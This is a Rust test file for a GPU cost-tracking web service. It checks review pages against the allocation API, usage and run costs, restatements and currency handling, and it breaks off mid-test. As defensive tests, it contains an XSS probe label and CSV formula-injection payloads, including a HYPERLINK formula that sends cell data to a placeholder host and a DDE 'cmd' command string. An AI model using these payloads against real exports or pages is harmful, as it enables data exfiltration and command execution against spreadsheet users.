//! The monthly review and its drill-downs show the allocation API's numbers, table by table,
//! and escape label values; on both storage backends.

use std::collections::BTreeMap;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use scraper::{Html, Selector};
use tower::ServiceExt;

use super::tests::{apis, report, Api};
use crate::clock::now_ms;
use crate::store;
use gpuledger_core::time::{
    hour_floor, month_label, month_of, month_start_ms, rfc3339, DAY_MS, HOUR_MS,
};
use gpuledger_proto::Report;

/// A table row as the page shows it: key, cost, kWh.
/// A table row as compared: key, cost, kWh, kg CO2e.
type Row = (String, String, String, String);

fn sel(s: &str) -> Selector {
    Selector::parse(s).unwrap()
}

fn text(e: scraper::ElementRef) -> String {
    e.text().collect::<String>().trim().to_owned()
}

/// Every spend table on a page, by its `data-by`.
fn page_tables(html: &str) -> BTreeMap<String, Vec<Row>> {
    let doc = Html::parse_document(html);
    let mut out = BTreeMap::new();
    for table in doc.select(&sel("table.spend[data-by]")) {
        let by = table.value().attr("data-by").unwrap().to_owned();
        let rows = table
            .select(&sel("tbody tr"))
            .map(|tr| {
                let cell = |c: &str| text(tr.select(&sel(c)).next().unwrap());
                (
                    cell("td.key"),
                    cell("td.cost"),
                    cell("td.kwh"),
                    cell("td.co2e"),
                )
            })
            .collect();
        out.insert(by, rows);
    }
    out
}

/// The allocation API's answer for the month by `by` (`filter`: `&key=value…`), as JSON.
async fn month_allocation(api: &Api, cookie: &str, by: &str, filter: &str) -> serde_json::Value {
    let (from, to) = month_of(at());
    let q = format!(
        "from={}&to={}&by={by}&step=month{filter}",
        rfc3339(from),
        rfc3339(to)
    );
    let (status, body) = api
        .get_as(&format!("/api/v1/allocation?{q}"), Some(cookie))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    serde_json::from_str(&body).unwrap()
}

/// The allocation API's rows for the month, as the page would show them.
async fn api_rows(api: &Api, cookie: &str, by: &str, filter: &str) -> Vec<Row> {
    let v = month_allocation(api, cookie, by, filter).await;
    v["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["key"].as_str().unwrap().to_owned(),
                crate::format::usd(gpuledger_core::money::from_text(
                    r["cost"].as_str().unwrap(),
                )),
                crate::app::review::charts::energy_text(
                    r["energy_kwh"].as_f64(),
                    r["energy_measured_share"].as_f64(),
                ),
                crate::app::review::charts::co2e_text(
                    r["kg_co2e"].as_f64(),
                    r["energy_measured_share"].as_f64(),
                ),
            )
        })
        .collect()
}

/// When this file's reports end: the middle of the hour before this one, so that a test run at
/// the top of an hour sees every window in one hour, as at any other time. In a month's first
/// hour that would be last month's: then two minutes into this one (ingest takes a clock up to
/// five minutes ahead), so the month under review is always the one under way.
fn at() -> i64 {
    let now = now_ms();
    let mid_last_hour = hour_floor(now) - HOUR_MS / 2;
    let this_month = month_of(now).0;
    if mid_last_hour < this_month {
        this_month + 2 * 60_000
    } else {
        mid_last_hour
    }
}

/// [`report`] moved to end at [`at`].
fn placed(batch: &str) -> Report {
    let mut r = report(batch);
    let shift = r.windows[0].end_ms - at();
    for w in &mut r.windows {
        w.start_ms -= shift;
        w.end_ms -= shift;
    }
    r
}

fn month() -> String {
    chrono::DateTime::from_timestamp_millis(at())
        .unwrap()
        .format("%Y-%m")
        .to_string()
}

async fn post_json(api: &Api, path: &str, body: serde_json::Value) -> (StatusCode, String) {
    let req = Request::post(path)
        .header("content-type", "application/json")
        .header("authorization", format!("Bearer {}", api.token))
        .body(Body::from(body.to_string()))
        .unwrap();
    let resp = api.app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    (status, String::from_utf8_lossy(&bytes).into_owned())
}

/// Two windows of a host in af-south-1 (900.6 g CO2e/kWh in the built-in table): one whose
/// model label is a script and whose GPU measured no energy, one for llama-70b on the chat
/// endpoint with an experiment and a measured 2 kWh over the quarter of an hour after it.
async fn fleet(api: &Api) {
    let mut r = placed("rev-1");
    r.host.instance_type = Some("g6.xlarge".into());
    r.host.region = Some("af-south-1".into());
    r.windows[0].gpus[0].energy_mj = None;
    api.post(Some(&api.token), serde_json::to_vec(&r).unwrap())
        .await;
    let mut r2 = placed("rev-2");
    r2.host.instance_type = Some("g6.xlarge".into());
    r2.host.region = Some("af-south-1".into());
    // A quarter of an hour at 8 kW is 2 kWh (a GPU's energy is bounded by its power), after
    // the first window.
    r2.windows[0].start_ms += 60_000;
    r2.windows[0].end_ms = r2.windows[0].start_ms + 900_000;
    r2.windows[0].samples = 900;
    r2.windows[0].gpus[0].energy_mj = Some(7_200_000_000);
    r2.windows[0].gpus[0].processes[0].labels = [
        ("model".to_string(), "llama-70b".to_string()),
        ("endpoint".to_string(), "chat".to_string()),
        ("experiment".to_string(), "ft-run-3".to_string()),
        ("team".to_string(), "search".to_string()),
    ]
    .into();
    let (status, _) = api
        .post(Some(&api.token), serde_json::to_vec(&r2).unwrap())
        .await;
    assert_eq!(status, StatusCode::OK);
    // What `serve` does every minute: pages and the API read the rollups.
    let card = gpuledger_core::ratecard::RateCard::default_card();
    let done = crate::rollup::run(api.store.as_ref(), &card, &Default::default(), usize::MAX)
        .await
        .unwrap();
    assert!(done.hours > 0);
}

#[tokio::test]
async fn every_review_table_equals_the_allocation_api() {
    for (api, _db) in apis().await {
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        let (status, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        assert_eq!(status, StatusCode::OK, "{}", api.backend);
        assert!(
            !page.contains("<script>alert(1)</script>"),
            "labels are escaped"
        );
        assert!(page.contains("&#60;script&#62;alert(1)&#60;/script&#62;"));
        let tables = page_tables(&page);
        assert_eq!(
            tables.keys().cloned().collect::<Vec<_>>(),
            [
                "cluster",
                "endpoint",
                "experiment",
                "model",
                "pricing_category",
                "team"
            ],
            "{}",
            api.backend
        );
        for (by, rows) in &tables {
            assert_eq!(
                rows,
                &api_rows(&api, &viewer, by, "").await,
                "{}: the {by} table",
                api.backend
            );
        }
        // 2 kWh on a 900.6 g grid: 1.8 kg. The script's GPU measured none: unknown, not 0.
        let models = &tables["model"];
        assert!(
            models
                .iter()
                .any(|r| r.0 == "llama-70b" && r.2 == "2" && r.3 == "2"),
            "{models:?}"
        );
        assert!(
            models
                .iter()
                .any(|r| r.0 != "llama-70b" && r.2 == "unknown" && r.3 == "unknown"),
            "{models:?}"
        );
        // The headline total is the API's total, and links to it.
        let doc = Html::parse_document(&page);
        let first = doc.select(&sel("section.headline a.big")).next().unwrap();
        let v = month_allocation(&api, &viewer, "model", "").await;
        let total = crate::format::usd(gpuledger_core::money::from_text(
            v["totals"][0]["cost"].as_str().unwrap(),
        ));
        assert_eq!(text(first), total);
        let href = first.value().attr("href").unwrap();
        assert!(href.starts_with("/api/v1/allocation?"), "{href}");
        assert_eq!(api.get_as(href, Some(&viewer)).await.0, StatusCode::OK);
        // Every CSV link answers CSV.
        for a in doc.select(&sel("a.csv")) {
            let href = a.value().attr("href").unwrap();
            let (status, body) = api.get_as(href, Some(&viewer)).await;
            assert_eq!(status, StatusCode::OK, "{href}: {body}");
            assert!(
                body.lines().count() >= 1 && body.contains(','),
                "{href}: {body}"
            );
        }
        // The heatmap has a row for the GPU; the week's shape of its type, one per weekday.
        assert_eq!(
            doc.select(&sel("svg.heatmap:not(.week) text.row")).count(),
            1
        );
        let weeks = doc.select(&sel("svg.heatmap.week")).count();
        assert_eq!(
            doc.select(&sel("svg.heatmap.week text.row")).count(),
            7 * weeks
        );

        assert_eq!(
            api.get_as("/review/2026-13", Some(&viewer)).await.0,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            api.get_as("/review", Some(&viewer)).await.0,
            StatusCode::SEE_OTHER
        );
    }
}

#[tokio::test]
async fn drill_downs_equal_the_filtered_api_and_link_from_the_review() {
    for (api, _db) in apis().await {
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        let (_, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        let doc = Html::parse_document(&page);
        // The review's model row links to the model's page.
        let link = doc
            .select(&sel("table.spend[data-by=model] td.key a"))
            .find(|a| text(*a) == "llama-70b")
            .unwrap();
        let href = link.value().attr("href").unwrap().to_owned();
        assert_eq!(href, format!("/review/{}/model?key=llama-70b", month()));
        let (status, drill) = api.get_as(&href, Some(&viewer)).await;
        assert_eq!(status, StatusCode::OK, "{}", api.backend);
        let tables = page_tables(&drill);
        assert!(tables.contains_key("host") && tables.contains_key("gpu"));
        for (by, rows) in &tables {
            assert_eq!(
                rows,
                &api_rows(&api, &viewer, by, "&model=llama-70b").await,
                "{}: the model page's {by} table",
                api.backend
            );
        }
        // Its headline is the model's cost in the API.
        let model_rows = api_rows(&api, &viewer, "model", "").await;
        let llama = model_rows.iter().find(|r| r.0 == "llama-70b").unwrap();
        let d = Html::parse_document(&drill);
        let first = d.select(&sel("section.headline a.big")).next().unwrap();
        assert_eq!(text(first), llama.1);
        // A drill-down of the script label shows it as text.
        let (status, drill) = api
            .get_as(
                &format!(
                    "/review/{}/model?key=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                    month()
                ),
                Some(&viewer),
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        assert!(!drill.contains("<script>alert(1)</script>"));
        assert!(drill.contains("&#60;script&#62;alert(1)&#60;/script&#62;"));
        // Every other dimension has a page too; unknown ones and missing keys say so.
        for dim in ["experiment", "endpoint", "team", "cluster", "host", "gpu"] {
            let key = match dim {
                "experiment" => "ft-run-3",
                "endpoint" => "chat",
                "team" => "search",
                "cluster" => "c1",
                "host" => "h1",
                _ => "GPU-1",
            };
            let (status, page) = api
                .get_as(
                    &format!("/review/{}/{dim}?key={key}", month()),
                    Some(&viewer),
                )
                .await;
            assert_eq!(status, StatusCode::OK, "{dim}");
            assert!(!page.contains("Nothing was attributed"), "{dim}: {page}");
        }
        assert_eq!(
            api.get_as(&format!("/review/{}/colour?key=x", month()), Some(&viewer))
                .await
                .0,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            api.get_as(&format!("/review/{}/model", month()), Some(&viewer))
                .await
                .0,
            StatusCode::BAD_REQUEST
        );
    }
}

#[tokio::test]
async fn request_counts_give_the_cost_per_thousand_requests() {
    for (api, _db) in apis().await {
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        let now = at();
        // Counts and progress within the month under way, whatever the hour (in its first
        // hour, an hour back is last month's).
        let (month_start, _) = month_of(now);
        let back = |ms: i64| (now - ms).max(month_start);
        let count = |requests: i64| {
            serde_json::json!({"source": "chat-pod-1", "counts": [{
                "endpoint": "chat",
                "start": rfc3339(back(3_600_000)),
                "end": rfc3339(now - 60_000),
                "requests": requests,
            }]})
        };
        // A person's session cannot post counts; a bad count is refused whole.
        let req = Request::post("/api/v1/usage")
            .header("content-type", "application/json")
            .header("cookie", &viewer)
            .body(Body::from(count(10).to_string()))
            .unwrap();
        assert_eq!(
            api.app.clone().oneshot(req).await.unwrap().status(),
            StatusCode::UNAUTHORIZED
        );
        let (status, body) = post_json(&api, "/api/v1/usage", count(-5)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
        assert!(body.contains("counts[0].requests"), "{body}");
        // A resend replaces: 2,000 requests, not 3,000.
        assert_eq!(
            post_json(&api, "/api/v1/usage", count(1_000)).await.0,
            StatusCode::OK
        );
        assert_eq!(
            post_json(&api, "/api/v1/usage", count(2_000)).await.0,
            StatusCode::OK
        );

        let (from, to) = month_of(now);
        let (status, body) = api
            .get_as(
                &format!("/api/v1/usage?from={}&to={}", rfc3339(from), rfc3339(to)),
                Some(&viewer),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        let chat = v["endpoints"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["endpoint"] == "chat")
            .unwrap();
        assert_eq!(chat["requests"], 2_000);
        let cost = gpuledger_core::money::from_text(chat["cost"].as_str().unwrap());
        let per_1k =
            gpuledger_core::money::from_text(chat["cost_per_1k_requests"].as_str().unwrap());
        assert!(!cost.is_zero());
        assert_eq!(
            per_1k,
            (cost * rust_decimal::Decimal::from(1000) / rust_decimal::Decimal::from(2000))
                .round_dp(gpuledger_core::money::MAX_SCALE)
        );
        // The chat cost is the allocation API's endpoint cost.
        let endpoints = api_rows(&api, &viewer, "endpoint", "").await;
        assert_eq!(
            endpoints.iter().find(|r| r.0 == "chat").unwrap().1,
            crate::format::usd(cost)
        );
        // The review shows it.
        let (_, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        let doc = Html::parse_document(&page);
        let row = doc
            .select(&sel("table.endpoints tbody tr"))
            .find(|tr| tr.text().any(|t| t == "chat"))
            .unwrap();
        let cells: Vec<String> = row.select(&sel("td")).map(text).collect();
        assert_eq!(cells[1], "2,000");
        assert_eq!(cells[2], crate::format::usd(cost));
        assert_eq!(cells[3], crate::format::money_precise(per_1k, "USD", 4));
        // The training run is listed with its cost.
        let run = doc
            .select(&sel("table.runs tbody tr"))
            .find(|tr| tr.text().any(|t| t == "ft-run-3"))
            .unwrap();
        let experiments = api_rows(&api, &viewer, "experiment", "").await;
        assert_eq!(
            text(run.select(&sel("td.cost")).next().unwrap()),
            experiments.iter().find(|r| r.0 == "ft-run-3").unwrap().1
        );
        assert_eq!(
            text(run.select(&sel("td.per1k-steps")).next().unwrap()),
            "—"
        );

        // The run reports its progress; two ranks report the same steps, counted once.
        let progress = |rank: &str, at: i64, step: i64, epoch: i64| {
            serde_json::json!({"source": rank, "progress": [
                {"experiment": "ft-run-3", "at": rfc3339(at), "step": step, "epoch": epoch}
            ]})
        };
        for rank in ["rank-0", "rank-1"] {
            // On the run's day, as a run reports (a point of a day before its first GPU time
            // is not the token's to post: `unit_costs::owner_not_of_token`).
            for (at, step, epoch) in [(now - 60_000, 1_000, 0), (now, 5_000, 2)] {
                let (status, body) =
                    post_json(&api, "/api/v1/usage", progress(rank, at, step, epoch)).await;
                assert_eq!(status, StatusCode::OK, "{body}");
                assert!(body.contains("\"progress\":1"), "{body}");
            }
        }
        let (status, body) = post_json(&api, "/api/v1/usage", progress("rank-0", now, -1, 0)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
        assert!(body.contains("progress[0].step"), "{body}");
        let (_, body) = api
            .get_as(
                &format!("/api/v1/runs?from={}&to={}", rfc3339(from), rfc3339(to)),
                Some(&viewer),
            )
            .await;
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        let r = v["runs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["experiment"] == "ft-run-3")
            .unwrap();
        let run_cost = gpuledger_core::money::from_text(r["cost"].as_str().unwrap());
        // A run that began this month: all 5,000 steps are this month's.
        assert_eq!(
            (r["steps"].as_i64(), r["epochs"].as_i64()),
            (Some(5_000), Some(2)),
            "{body}"
        );
        let per_1k = gpuledger_core::money::from_text(r["cost_per_1k_steps"].as_str().unwrap());
        assert_eq!(
            per_1k,
            (run_cost * rust_decimal::Decimal::from(1000) / rust_decimal::Decimal::from(5000))
                .round_dp(gpuledger_core::money::MAX_SCALE)
        );
        assert_eq!(
            gpuledger_core::money::from_text(r["cost_per_epoch"].as_str().unwrap()),
            (run_cost / rust_decimal::Decimal::from(2)).round_dp(gpuledger_core::money::MAX_SCALE)
        );
        let (_, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        let doc = Html::parse_document(&page);
        let run = doc
            .select(&sel("table.runs tbody tr"))
            .find(|tr| tr.text().any(|t| t == "ft-run-3"))
            .unwrap();
        assert_eq!(
            text(run.select(&sel("td.per1k-steps")).next().unwrap()),
            crate::format::money_precise(per_1k, "USD", 4)
        );
    }
}

/// Hostile labels, host names, endpoints and sources posted by an agent reach every CSV export
/// (allocation by each dimension, the FOCUS export, incidents, recommendations, cost per
/// request and per run) neutralised: no cell starts a formula, and numbers stay numbers.
#[tokio::test]
async fn no_csv_cell_can_start_a_formula() {
    const HOSTILE: [&str; 4] = [
        "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ];
    for (api, _db) in apis().await {
        let b = api.backend;
        let (viewer, _) = api.session("viewer").await;
        let mut r = placed("hostile-1");
        r.host.hostname = HOSTILE[3].into();
        r.host.instance_type = Some("g6.xlarge".into());
        r.windows[0].gpus[0].processes[0].labels = [
            ("model".to_string(), HOSTILE[0].to_string()),
            ("endpoint".to_string(), HOSTILE[1].to_string()),
            ("experiment".to_string(), HOSTILE[2].to_string()),
            ("team".to_string(), HOSTILE[0].to_string()),
        ]
        .into();
        let (status, body) = api
            .post(Some(&api.token), serde_json::to_vec(&r).unwrap())
            .await;
        assert_eq!(
            status,
            StatusCode::OK,
            "{b}: {}",
            String::from_utf8_lossy(&body)
        );
        // Counts are taken for the endpoints the token's hosts ran, as the ledger has them.
        let card = gpuledger_core::ratecard::RateCard::default_card();
        crate::rollup::run(api.store.as_ref(), &card, &Default::default(), usize::MAX)
            .await
            .unwrap();
        let (from, to) = month_of(at());
        let start = rfc3339(at() - 60_000);
        let end = rfc3339(at());
        let (status, body) = post_json(
            &api,
            "/api/v1/usage",
            serde_json::json!({"source": HOSTILE[0], "counts": [
                {"endpoint": HOSTILE[1], "start": start, "end": end, "requests": 10}
            ]}),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{b}: {body}");

        let range = format!("from={}&to={}", rfc3339(from), rfc3339(to));
        let mut paths: Vec<String> = [
            "model",
            "experiment",
            "endpoint",
            "team",
            "cluster",
            "host",
            "gpu",
        ]
        .iter()
        .map(|by| format!("/api/v1/allocation?{range}&by={by}&format=csv"))
        .collect();
        paths.push(format!("/api/v1/allocation?{range}&format=focus"));
        paths.push(format!("/api/v1/incidents?{range}&format=csv"));
        paths.push("/api/v1/recommendations?format=csv".to_owned());
        paths.push(format!("/api/v1/usage?{range}&format=csv"));
        paths.push(format!("/api/v1/runs?{range}&format=csv"));
        let mut neutralised = 0;
        for path in &paths {
            let (status, csv_text) = api.get_as(path, Some(&viewer)).await;
            assert_eq!(status, StatusCode::OK, "{b}: {path}: {csv_text}");
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(csv_text.as_bytes());
            for record in reader.records() {
                let record = record.unwrap();
                for cell in record.iter() {
                    let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                    assert!(
                        !starts_formula || crate::csv_out::is_plain_number(cell),
                        "{b}: {path}: a cell starts a formula: {cell:?}"
                    );
                    if HOSTILE.iter().any(|h| cell == format!("'{h}")) {
                        neutralised += 1;
                    }
                }
            }
        }
        assert!(
            neutralised >= 8,
            "{b}: the hostile values reached the exports, neutralised ({neutralised} cells)"
        );
    }
}

/// The month in progress is compared with the same stretch of the previous month and has no
/// link to a month that has not begun; a closed month is compared with the whole month before.
#[tokio::test]
async fn comparisons_are_like_for_like_and_no_link_leads_to_the_future() {
    for (api, _db) in apis().await {
        let b = api.backend;
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        let (from, to) = month_of(at());
        let label = |ms: i64| {
            chrono::DateTime::from_timestamp_millis(ms)
                .unwrap()
                .format("%Y-%m")
                .to_string()
        };
        let (_, page) = api
            .get_as(&format!("/review/{}", label(from)), Some(&viewer))
            .await;
        assert!(
            page.contains("month to date, against the same stretch of"),
            "{b}"
        );
        // No bill covers this month's fleet: its days are priced from the rate card, and the
        // chart marks them so.
        assert!(page.contains("<g class=\"estimated\">"), "{b}");
        assert!(page.contains("no bill covers the day yet"), "{b}");
        // The headline says how much of the month that is: all of it, here.
        let share = page
            .split("estimated-share\">")
            .nth(1)
            .and_then(|p| p.split("</p>").next())
            .unwrap_or_default();
        assert!(
            share.contains("(100.0%,")
                && share.contains("is estimated: hours the bill does not cover yet"),
            "{b}: {share}"
        );
        assert!(
            !page.contains(&format!("href=\"/review/{}\"", label(to))),
            "{b}"
        );
        let (status, page) = api
            .get_as(&format!("/review/{}", label(from - 1)), Some(&viewer))
            .await;
        assert_eq!(status, StatusCode::OK, "{b}");
        assert!(page.contains("the whole month"), "{b}");
        assert!(
            page.contains(&format!("href=\"/review/{}\"", label(from))),
            "{b}"
        );
        assert!(!page.contains("(-"), "{b}: one minus sign");
    }
}

/// A month nothing was reported or billed for says so and is never called final; a month that
/// has not begun has no review, no drill-down, no comparison and no budget forecast.
#[tokio::test]
async fn an_empty_month_says_so_and_a_future_month_has_no_review() {
    for (api, _db) in apis().await {
        let b = api.backend;
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        let (from, to) = month_of(at());
        // Long closed, and nothing in it.
        let empty = month_label(month_start_ms(month_start_ms(from - 1) - 1));
        let (status, page) = api.get_as(&format!("/review/{empty}"), Some(&viewer)).await;
        assert_eq!(status, StatusCode::OK, "{b}");
        assert!(page.contains("No data: no agent reported"), "{b}");
        assert!(!page.contains("final"), "{b}: nothing to be final");

        // The month after this one, and one a year on.
        for future in [month_label(to), month_label(to + 400 * DAY_MS)] {
            for path in [
                format!("/review/{future}"),
                format!("/review/{future}/team?key=search"),
            ] {
                let (status, page) = api.get_as(&path, Some(&viewer)).await;
                assert_eq!(status, StatusCode::NOT_FOUND, "{b}: {path}");
                assert!(page.contains("This month has not begun"), "{b}: {path}");
                assert!(!page.contains("heading over"), "{b}: {path}: no forecast");
                assert!(
                    !page.contains("against"),
                    "{b}: {path}: no comparison with anything"
                );
            }
        }
    }
}

/// A month says whether its figures are final: the month under way is open until it closes; a
/// closed month shows changes that arrived after it closed and its restatements, team by team.
#[tokio::test]
async fn a_review_says_whether_its_month_is_final_and_shows_restatements() {
    for (api, _db) in apis().await {
        let b = api.backend;
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        let label = |ms: i64| {
            chrono::DateTime::from_timestamp_millis(ms)
                .unwrap()
                .format("%Y-%m")
                .to_string()
        };
        let (from, _) = month_of(at());
        let (_, page) = api
            .get_as(&format!("/review/{}", label(from)), Some(&viewer))
            .await;
        assert!(
            page.contains("Open: late data and bills may still change"),
            "{b}"
        );

        // Two months back is always closed, whatever today's date.
        let old = gpuledger_core::time::month_start_ms(
            gpuledger_core::time::month_start_ms(from - 1) - 1,
        );
        store::rollups::mark_dirty_hours(api.store.db(), &[old + 3_600_000])
            .await
            .unwrap();
        store::closing::add_restatement(
            api.store.db(),
            &crate::store::closing::RestatementRow {
                month_ms: old,
                created_ms: now_ms(),
                reason: "late AWS credit".into(),
                before_json: r#"{"search":"1200.00","ml":"50.00"}"#.into(),
                after_json: r#"{"search":"1100.50","ml":"50.00"}"#.into(),
            },
        )
        .await
        .unwrap();
        let (status, page) = api
            .get_as(&format!("/review/{}", label(old)), Some(&viewer))
            .await;
        assert_eq!(status, StatusCode::OK, "{b}");
        assert!(page.contains("these figures are final"), "{b}");
        assert!(
            page.contains("host-hours changed after the month closed"),
            "{b}"
        );
        assert!(page.contains("late AWS credit"), "{b}");
        assert!(
            page.contains("$1,200.00") && page.contains("$1,100.50"),
            "{b}"
        );
        assert!(
            !page.contains("<td>ml</td>"),
            "{b}: only teams whose figure changed"
        );
    }
}

/// The review's idle waste and `GET /api/v1/idle/history` come from the ledger: their dollars
/// are the month's idle and held-idle dollars in the allocation API, to the cent.
#[tokio::test]
async fn idle_history_carries_the_months_idle_dollars() {
    for (api, _db) in apis().await {
        let (viewer, _) = api.session("viewer").await;
        fleet(&api).await;
        // A second host: one GPU idle, one held idle by a notebook.
        let mut r = placed("idle-1");
        r.host.hostname = "h-idle".into();
        r.host.instance_type = Some("g6.xlarge".into());
        let mut held = r.windows[0].gpus[0].clone();
        held.uuid = "GPU-held".into();
        held.util_avg = Some(0.0);
        held.processes[0].sm_util_avg = Some(0.0);
        held.processes[0].labels = [("team".to_string(), "research".to_string())].into();
        let mut idle = r.windows[0].gpus[0].clone();
        idle.uuid = "GPU-idle".into();
        idle.util_avg = Some(0.0);
        idle.processes.clear();
        r.windows[0].gpus = vec![held, idle];
        let (status, _) = api
            .post(Some(&api.token), serde_json::to_vec(&r).unwrap())
            .await;
        assert_eq!(status, StatusCode::OK);
        crate::test_support::roll_up(api.store.as_ref()).await;
        let (from, to) = month_of(at());
        let range = format!("from={}&to={}", rfc3339(from), rfc3339(to));
        let (status, body) = api
            .get_as(&format!("/api/v1/idle/history?{range}"), Some(&viewer))
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        let episodes = v["episodes"].as_array().unwrap();
        let kinds: std::collections::BTreeSet<&str> = episodes
            .iter()
            .map(|e| e["kind"].as_str().unwrap())
            .collect();
        assert_eq!(kinds, ["held_idle", "idle"].into(), "{}: {v}", api.backend);
        let sum: rust_decimal::Decimal = episodes
            .iter()
            .map(|e| gpuledger_core::money::from_text(e["cost"].as_str().unwrap()))
            .sum();
        let (_, alloc) = api
            .get_as(
                &format!("/api/v1/allocation?{range}&by=team"),
                Some(&viewer),
            )
            .await;
        let alloc: serde_json::Value = serde_json::from_str(&alloc).unwrap();
        let t = &alloc["totals"][0];
        let ledger = gpuledger_core::money::from_text(t["idle_cost"].as_str().unwrap())
            + gpuledger_core::money::from_text(t["held_idle_cost"].as_str().unwrap());
        assert!(ledger > rust_decimal::Decimal::ZERO);
        assert_eq!(sum, ledger, "{}", api.backend);
        let (_, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        let shown = crate::format::usd(ledger);
        assert!(
            page.contains(&format!("{shown} in 2 runs"))
                && page.contains(&format!("({shown}), to the cent")),
            "{}: {page}",
            api.backend
        );
        let (_, csv) = api
            .get_as(
                &format!("/api/v1/idle/history?{range}&format=csv"),
                Some(&viewer),
            )
            .await;
        assert!(csv.starts_with("cluster,host,kind,start,end"), "{csv}");
        assert!(csv.contains("team=research"), "{csv}");
    }
}

/// A month billed in two currencies: the page speaks the one carrying the most money, its
/// figures and tables hold only that currency's rows (equal to the API's total in it), and the
/// other currency is named apart, never added in.
#[tokio::test]
async fn a_month_billed_in_two_currencies_is_shown_in_one_and_names_the_other() {
    for (api, _db) in apis().await {
        let (viewer, _) = api.session("viewer").await;
        // A host priced by the rate card, in dollars.
        let mut usd = placed("cur-usd");
        usd.host.instance_type = Some("g6.xlarge".into());
        api.post(Some(&api.token), serde_json::to_vec(&usd).unwrap())
            .await;
        // A host whose bill is in euros, and carries far more.
        let mut eur = placed("cur-eur");
        eur.host.hostname = "h-eu".into();
        eur.host.instance_id = Some("i-0e0e0e0e0e0e0e0e0".into());
        eur.windows[0].gpus[0].uuid = "GPU-EU".into();
        let (status, body) = api
            .post(Some(&api.token), serde_json::to_vec(&eur).unwrap())
            .await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
        let hour = hour_floor(at());
        let (period, _) = month_of(hour);
        let bill = format!(
            "BilledCost,BillingAccountId,BillingCurrency,BillingPeriodStart,ChargeCategory,ChargePeriodEnd,ChargePeriodStart,EffectiveCost,ListCost,ServiceProviderName,ResourceId\n\
             4000.00,eu-acct,EUR,{},Usage,{},{},4000.00,4000.00,Nebius,i-0e0e0e0e0e0e0e0e0\n",
            rfc3339(period),
            rfc3339(hour + 3_600_000),
            rfc3339(hour),
        );
        crate::billing::import_focus(api.store.as_ref(), "eur.csv", bill.into_bytes(), now_ms())
            .await
            .unwrap();
        crate::rollup::run(
            api.store.as_ref(),
            &gpuledger_core::ratecard::RateCard::default_card(),
            &Default::default(),
            usize::MAX,
        )
        .await
        .unwrap();

        let v = month_allocation(&api, &viewer, "cluster", "").await;
        let total_in = |currency: &str| {
            v["totals"]
                .as_array()
                .unwrap()
                .iter()
                .find(|t| t["currency"] == currency)
                .map(|t| gpuledger_core::money::from_text(t["cost"].as_str().unwrap()))
                .unwrap_or_else(|| panic!("no {currency} total: {v}"))
        };
        let (eur_total, usd_total) = (total_in("EUR"), total_in("USD"));
        assert!(usd_total > rust_decimal::Decimal::ZERO, "{v}");

        let (status, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        assert_eq!(status, StatusCode::OK, "{}", api.backend);
        let doc = Html::parse_document(&page);
        let headline = doc.select(&sel("section.headline a.big")).next().unwrap();
        assert_eq!(
            text(headline),
            crate::format::money(eur_total, "EUR"),
            "{}",
            api.backend
        );
        let others = doc
            .select(&sel("p.other-currencies"))
            .next()
            .map(text)
            .unwrap_or_else(|| panic!("{}: no other currencies named", api.backend));
        assert!(others.contains(&crate::format::usd(usd_total)), "{others}");
        // Every spend table is in euros only, and adds up to the headline.
        for (by, rows) in page_tables(&page) {
            for (key, cost, _, _) in &rows {
                assert!(
                    cost.starts_with('€') && !cost.contains('$'),
                    "{}: {by} {key} {cost}",
                    api.backend
                );
            }
        }
        let clusters = page_tables(&page).remove("cluster").unwrap();
        let sum: rust_decimal::Decimal = clusters
            .iter()
            .map(|(_, cost, _, _)| {
                gpuledger_core::money::from_text(&cost.trim_start_matches('€').replace(',', ""))
            })
            .sum();
        assert_eq!(
            sum,
            gpuledger_core::money::cents(eur_total),
            "{}: {clusters:?}",
            api.backend
        );
    }
}

/// A closed month's heaviest sections are kept after its first view, the same as computed, and
/// read again once the month is restated.
#[tokio::test]
async fn a_closed_months_review_keeps_its_sections_until_restated() {
    use gpuledger_core::time::DAY_MS;
    for (api, _db) in apis().await {
        let b = api.backend;
        let s = api.store.as_ref();
        let (admin, _) = api.session("admin").await;
        // Three hours of a GPU instance no agent reports, in a month long closed.
        let (month, next) = month_of(month_of(at()).0 - 80 * DAY_MS);
        let bill = format!(
